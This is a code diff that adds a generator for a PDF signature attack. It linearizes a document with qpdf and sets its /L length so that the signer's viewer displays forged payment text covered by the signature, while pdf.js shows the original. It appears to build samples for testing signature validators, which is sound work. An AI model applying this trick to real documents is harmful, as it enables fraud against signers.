@@ -18,6 +18,7 @@ from collections.abc import Callable
 from dataclasses import dataclass
 
 from pyhanko.pdf_utils import generic
+from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
 from pyhanko.pdf_utils.reader import PdfFileReader
 
 FORGED_TEXT = ("FORGED AFTER SIGNING", "Pay 1 000 000 000 VND")
@@ -269,3 +270,45 @@ def object_stream_shadow(base: Base) -> bytes:
 def build(name: str, bases: dict[str, bytes]) -> bytes:
     base_name, builder = HIDDEN[name]
     return builder(Base.of(bases[base_name]))
+
+
+# --- 4. a trap set before signing: pdf.js and linearization --------------------------------
+
+def linearized_trap(original: bytes, sign: Callable[[bytes], bytes]) -> bytes:
+    """pdf.js reads a linearized file from its first-page cross-reference table when the
+    linearization dictionary's /L equals the file's length, and then never sees the updates
+    after the linearized revision. The attacker linearizes a document (qpdf), prepares an
+    update that draws the forged text, and sets /L to the length the file will have once
+    signed and padded with blanks; the signer's viewer (length mismatch: not linearized)
+    shows the forged text and the signature covers it, pdf.js later shows the original."""
+    import subprocess
+    import tempfile
+    from pathlib import Path
+
+    with tempfile.TemporaryDirectory() as folder:
+        src, out = Path(folder) / "in.pdf", Path(folder) / "lin.pdf"
+        # a blank content stream keeps /L at five digits, like the signed file's length
+        writer = IncrementalPdfFileWriter(io.BytesIO(original), strict=False)
+        writer.add_stream_to_page(0, writer.add_object(
+            generic.StreamObject(stream_data=b" " * 9000)))
+        padded = io.BytesIO()
+        writer.write(padded)
+        src.write_bytes(padded.getvalue())
+        subprocess.run(["qpdf", "--linearize", "--object-streams=disable",
+                        "--compress-streams=n", str(src), str(out)], check=True)
+        linearized = out.read_bytes()
+    stated = re.search(rb"/L (\d+)", linearized)
+    assert stated is not None and len(stated[1]) == 5, stated
+
+    def prepared_and_signed(length: int) -> bytes:
+        data = linearized[:stated.start(1)] + b"%05d" % length + linearized[stated.end(1):]
+        base = Base.of(data)
+        return sign(forged_update(base))
+
+    final = len(prepared_and_signed(99999)) + 64  # the same bytes but /L: the same length
+    signed = prepared_and_signed(final)
+    return signed + b" " * (final - len(signed))
+
+
+HIDDEN["hidden-linearized-trap"] = ("linearized-trap", lambda base: base.data)
+"""built whole by ``linearized_trap`` (its base is the attack itself)"""
